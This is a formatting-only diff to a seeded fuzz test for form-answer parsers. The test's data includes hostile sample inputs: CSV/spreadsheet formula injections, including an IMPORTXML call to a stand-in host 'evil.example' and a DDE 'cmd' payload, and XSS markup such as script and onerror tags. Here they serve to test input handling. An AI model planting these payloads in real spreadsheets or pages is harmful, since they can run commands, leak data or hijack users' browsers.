@@ -3,24 +3,49 @@ import { parseMentorAnswer, parseRequestAnswer, type ParseResult } from '../../.
 import { prng } from '../../../bench/scenarios/matching-instances';
 import { mentorAnswer, requestAnswer, vocabulary } from './fixtures';
 
-const FORMULAS = ['=IMPORTXML("http://evil.example/x","//a")', '+1+2', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("http://x","клик")', "=cmd|' /C calc'!A0"];
+const FORMULAS = [
+  '=IMPORTXML("http://evil.example/x","//a")',
+  '+1+2',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '=HYPERLINK("http://x","клик")',
+  "=cmd|' /C calc'!A0",
+];
 const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><b>жирный</b>', '&lt;&gt;&amp;'];
 
 function mutation(rnd: () => number): { value: unknown; payload: string | null } {
   const pick = <T>(xs: readonly T[]) => xs[Math.floor(rnd() * xs.length)]!;
   switch (Math.floor(rnd() * 12)) {
-    case 0: return { value: [''], payload: null };
-    case 1: return { value: undefined, payload: null };
-    case 2: return { value: [42], payload: null };
-    case 3: return { value: { nested: true }, payload: null };
-    case 4: return { value: null, payload: null };
-    case 5: { const p = pick(FORMULAS); return { value: [p], payload: p }; }
-    case 6: { const p = pick(MARKUP); return { value: [p], payload: p }; }
-    case 7: return { value: ['я'.repeat(1 + Math.floor(rnd() * 60_000))], payload: null };
-    case 8: return { value: ['неизвестное значение ' + Math.floor(rnd() * 1000)], payload: null };
-    case 9: return { value: ['пять лет'], payload: null };
-    case 10: return { value: ['  \t\n '], payload: null };
-    default: { const p = `Иванова ${pick(FORMULAS)}`; return { value: [p], payload: p }; }
+    case 0:
+      return { value: [''], payload: null };
+    case 1:
+      return { value: undefined, payload: null };
+    case 2:
+      return { value: [42], payload: null };
+    case 3:
+      return { value: { nested: true }, payload: null };
+    case 4:
+      return { value: null, payload: null };
+    case 5: {
+      const p = pick(FORMULAS);
+      return { value: [p], payload: p };
+    }
+    case 6: {
+      const p = pick(MARKUP);
+      return { value: [p], payload: p };
+    }
+    case 7:
+      return { value: ['я'.repeat(1 + Math.floor(rnd() * 60_000))], payload: null };
+    case 8:
+      return { value: ['неизвестное значение ' + Math.floor(rnd() * 1000)], payload: null };
+    case 9:
+      return { value: ['пять лет'], payload: null };
+    case 10:
+      return { value: ['  \t\n '], payload: null };
+    default: {
+      const p = `Иванова ${pick(FORMULAS)}`;
+      return { value: [p], payload: p };
+    }
   }
 }
 
@@ -28,7 +53,8 @@ function check(result: ParseResult<Record<string, unknown>>, payloads: Array<{ t
   if (result.ok) {
     const dump = JSON.stringify(result.profile);
     // Accepted with a payload in an answer field: the payload is in the profile verbatim (the writer neutralises it later).
-    for (const { title, p } of payloads) if (title !== 'Отметка времени') expect(dump).toContain(JSON.stringify(p).slice(1, -1));
+    for (const { title, p } of payloads)
+      if (title !== 'Отметка времени') expect(dump).toContain(JSON.stringify(p).slice(1, -1));
     expect(typeof result.profile.email).toBe('string');
   } else {
     expect(result.reasons.length).toBeGreaterThan(0);
@@ -64,7 +90,10 @@ describe('generated malformed answers (seeded)', () => {
         if (rnd() < 0.05) answer['Лишний вопрос'] = ['=IMPORTXML(1)'];
         let result!: ParseResult<Record<string, unknown>>;
         expect(() => {
-          result = (parse as (nv: unknown, v: typeof vocabulary) => ParseResult<Record<string, unknown>>)(answer, vocabulary);
+          result = (parse as (nv: unknown, v: typeof vocabulary) => ParseResult<Record<string, unknown>>)(
+            answer,
+            vocabulary,
+          );
         }).not.toThrow();
         check(result, payloads);
         if (result.ok) ok++;
